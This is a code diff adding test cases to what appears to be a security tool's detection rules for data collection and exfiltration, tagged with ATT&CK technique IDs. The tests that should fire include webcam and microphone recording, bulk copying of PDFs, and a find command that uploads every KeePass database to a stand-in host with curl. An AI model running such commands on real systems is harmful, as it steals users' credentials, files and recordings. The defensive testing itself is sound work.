@@ -1,5 +1,5 @@
 import { O } from '@ringfence/testkit';
-import { REMOTE, testContent } from './support.ts';
+import { REMOTE, testContent, underWebServer } from './support.ts';
 
 testContent('collection.yaml', {
   'Secrets packed into an archive': {
@@ -76,14 +76,48 @@ testContent('collection.yaml', {
     },
   },
   'Screen, sound or clipboard recorded': {
-    as: 'notice collection T1113 T1115 T1123',
+    as: 'notice collection T1113 T1115 T1123 T1125',
     fires: {
       'the screen': (s) => s.start('/usr/bin/scrot /tmp/x.png'),
+      'the camera': (s) => s.start('/usr/bin/ffmpeg -f v4l2 -i /dev/video0 x.mkv'),
       'the microphone': (s) => s.start('/usr/bin/ffmpeg -f alsa -i default x.wav'),
     },
     quiet: {
       'a film is converted': (s) => s.start('/usr/bin/ffmpeg -i a.mkv b.mp4'),
       'a picture is shown': (s) => s.start('/usr/bin/eog x.png'),
+    },
+  },
+  'Files gathered by their kind': {
+    as: 'warning collection T1119 T1005',
+    fires: {
+      'tables and texts': (s) => s.start('/usr/bin/find /home -name *.pdf -exec cp {} /tmp/x ;'),
+      'sent at once': (s) => s.start('/usr/bin/find / -iname *.kdbx -exec curl -T {} https://x.example ;'),
+    },
+    quiet: {
+      'files are removed': (s) => s.start('/usr/bin/find /var -mtime +7 -exec rm {} ;'),
+      'within a project': (s) => s.start('/usr/bin/find src -name *.md -exec cp {} docs ;'),
+    },
+  },
+  'Files copied from or to a removable disk': {
+    as: 'notice collection exfiltration T1025 T1052.001',
+    fires: {
+      'to one': (s) => s.start('/usr/bin/cp -r /home/ann/docs /media/ann/STICK/'),
+      'from one': (s) => s.start('/usr/bin/rsync -a /run/media/ann/x/ /srv/x'),
+    },
+    quiet: {
+      'a disk of the system': (s) => s.start('/usr/bin/cp x /mnt/data/x'),
+      'it is shown': (s) => s.start('/usr/bin/ls /media/ann/STICK'),
+    },
+  },
+  "Share of the network mounted by a server's command": {
+    as: 'error collection T1039',
+    fires: {
+      'by mount': (s) => s.start('/usr/bin/mount -t nfs 10.0.0.5:/srv /mnt', ...underWebServer(s)),
+      'over SSH': (s) => s.start('/usr/bin/sshfs ann@10.0.0.5:/ /tmp/x', s.start('/bin/sh', s.inside, REMOTE), REMOTE),
+    },
+    quiet: {
+      'an administrator': (s) => s.start('/usr/bin/mount -t nfs nas:/srv /srv'),
+      'a file system in memory': (s) => s.start('/usr/bin/mount -t tmpfs tmpfs /tmp/x', ...underWebServer(s)),
     },
   },
 });
